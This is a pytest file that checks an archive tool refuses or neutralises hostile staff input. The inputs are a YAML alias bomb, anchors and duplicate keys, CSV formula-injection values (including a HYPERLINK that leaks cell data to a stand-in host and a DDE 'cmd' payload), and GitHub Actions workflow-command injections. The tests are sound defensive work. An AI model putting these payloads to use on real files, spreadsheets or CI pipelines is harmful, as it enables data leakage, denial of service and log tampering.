"""Hostile staff input gets a message, fast: YAML anchors, aliases and duplicate keys in front
matter, formulas in the open-data CSV, workflow commands in text printed for GitHub Actions.
Every hostile input is made by the test itself."""

from __future__ import annotations

import csv
import io
import re
import time
from pathlib import Path

import pytest
import yaml
from conftest import REPO
from harmoni_arsip.commands import periksa
from harmoni_arsip.entries import read_entries
from harmoni_arsip.entries.frontmatter import FrontMatterError, parse
from harmoni_arsip.problems import Problems
from harmoni_arsip.settings import load_settings

SETTINGS = load_settings(yaml.safe_load((REPO / "mkdocs.yml").read_text("utf-8"))["extra"])


def alias_bomb() -> str:
    """Nine levels of nine aliases (the 452-byte bomb of issue 18): 9**9 strings once built."""
    lines = ["---", "a: &a [x, x, x, x, x, x, x, x, x]"]
    for level, name in enumerate("bcdefghij"):
        previous = "abcdefghij"[level]
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]")
    lines += ["id: *j", "title: Bom", "---", "", "Narasi."]
    return "\n".join(lines) + "\n"


def test_alias_bomb_is_refused_in_milliseconds():
    text = alias_bomb()
    assert len(text.encode()) < 600
    started = time.perf_counter()
    with pytest.raises(FrontMatterError) as caught:
        parse(text)
    elapsed = time.perf_counter() - started
    assert elapsed < 0.05, f"{elapsed * 1000:.0f} ms"
    assert caught.value.line == 2
    assert "anchor YAML `&a` tidak diizinkan" in str(caught.value)


@pytest.mark.parametrize(
    ("yaml_text", "line", "words"),
    [
        ("title: Uji\nid: *x\n", 3, "alias YAML `*x` tidak diizinkan"),
        ("title: &judul Uji\nid: 2024-001\n", 2, "anchor YAML `&judul`"),
        ("title: Uji\ndesa: &d [A, B]\nkecamatan: *d\n", 3, "anchor YAML `&d`"),
        ("base: &b {a: 1}\nx:\n  <<: *b\n", 2, "anchor YAML `&b`"),
    ],
)
def test_anchors_and_aliases_are_refused_with_their_line(yaml_text, line, words):
    with pytest.raises(FrontMatterError) as caught:
        parse(f"---\n{yaml_text}---\nisi\n")
    assert caught.value.line == line
    assert words in str(caught.value)


@pytest.mark.parametrize(
    ("yaml_text", "line", "key", "first"),
    [
        ("id: 2024-001\ntitle: A\ntitle: B\n", 4, "title", 3),
        ("id: 2024-001\nketerangan:\n  - berkas: a.jpg\n    berkas: b.jpg\n", 5, "berkas", 4),
        ("id: 2024-001\nmedia_sosial: {facebook: x, facebook: y}\n", 3, "facebook", 3),
    ],
)
def test_duplicate_keys_are_refused_at_any_depth(yaml_text, line, key, first):
    with pytest.raises(FrontMatterError) as caught:
        parse(f"---\n{yaml_text}---\nisi\n")
    assert caught.value.line == line
    assert f"kunci `{key}` ditulis dua kali (juga di baris {first})" in str(caught.value)


def test_the_build_names_the_file_and_line_of_an_alias_bomb(tmp_path: Path):
    folder = tmp_path / "kegiatan" / "2024" / "bom"
    folder.mkdir(parents=True)
    (folder / "index.md").write_text(alias_bomb(), encoding="utf-8")
    problems = Problems()
    started = time.perf_counter()
    archive = read_entries(tmp_path / "kegiatan", tmp_path, SETTINGS, problems)
    assert time.perf_counter() - started < 1
    assert archive.entries == []
    assert [str(p).split(": ")[0] for p in problems.items] == [
        "kegiatan/2024/bom/index.md, baris 2"
    ]


def test_plain_front_matter_still_reads():
    front = parse("---\nid: 2024-001\ntitle: A\ndesa: [X, Y]\nketerangan:\n  - berkas: a\n---\n")
    assert front.data["desa"] == ["X", "Y"]
    assert front.key_lines["keterangan"] == 5


# -- formulas in the open-data CSV ----------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
     "-2+3", "\tTab", "\r=CR"],
)  # fmt: skip
def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote(value):
    from harmoni_arsip.exports.opendata import csv_bytes
    from harmoni_arsip.exports.records import FIELD_NAMES

    record = dict.fromkeys(FIELD_NAMES, "")
    record.update(id="2024-001", judul=value, desa=[value, "Baturusa"])
    data = csv_bytes([record]).decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(data, newline="")))
    assert row["judul"] == "'" + value
    assert row["desa"] == "'" + value + "; Baturusa"
    assert row["id"] == "2024-001"


def test_plain_csv_cells_are_unchanged():
    from harmoni_arsip.exports.opendata import csv_bytes
    from harmoni_arsip.exports.records import FIELD_NAMES

    record = dict.fromkeys(FIELD_NAMES, "")
    record.update(id="2024-001", judul="Rapat 1=1 dan a@b", jumlah_foto=3)
    (row,) = list(csv.DictReader(io.StringIO(csv_bytes([record]).decode("utf-8-sig"))))
    assert row["judul"] == "Rapat 1=1 dan a@b"
    assert row["jumlah_foto"] == "3"


# -- workflow commands in staff text ------------------------------------------------------------

INJECTIONS = ["x\n::error::palsu", "x\r::add-mask::rahasia", "x\n::stop-commands::t0k3n",
              "x\u2028::warning::a", "50%25\n::notice::b"]  # fmt: skip


@pytest.mark.parametrize("value", INJECTIONS)
def test_staff_text_never_starts_a_workflow_command_line(tmp_path: Path, value):
    folder = tmp_path / "kegiatan" / "2024" / "uji"
    folder.mkdir(parents=True)
    front = {"id": "2024-001", "title": "Uji", "date": "2024-07-01", "kategori": value}
    text = "---\n" + yaml.safe_dump(front, allow_unicode=True) + "---\n\nNarasi.\n"
    (folder / "index.md").write_text(text, encoding="utf-8")
    problems = Problems()
    read_entries(tmp_path / "kegiatan", tmp_path, SETTINGS, problems)
    assert problems.items, "the unknown kategori is reported"
    printed = "\n".join(str(p) for p in problems.items)
    printed += "\n" + "\n".join(periksa.github_annotations(problems, "error"))
    for line in re.split(r"\r\n|\r|\n", printed):  # how the Actions runner reads a log
        assert not line.lstrip().startswith("::") or line.startswith("::error file=kegiatan/")


def test_the_build_log_keeps_staff_text_on_one_line(caplog):
    problems = Problems()
    problems.add("kegiatan/a/index.md", "kategori `x\n::add-mask::rahasia` tidak dikenal.", 3)
    problems.report()
    assert len(caplog.records) == 1
    assert caplog.records[0].getMessage().splitlines() == [
        "kegiatan/a/index.md, baris 3: kategori `x⏎::add-mask::rahasia` tidak dikenal."
    ]
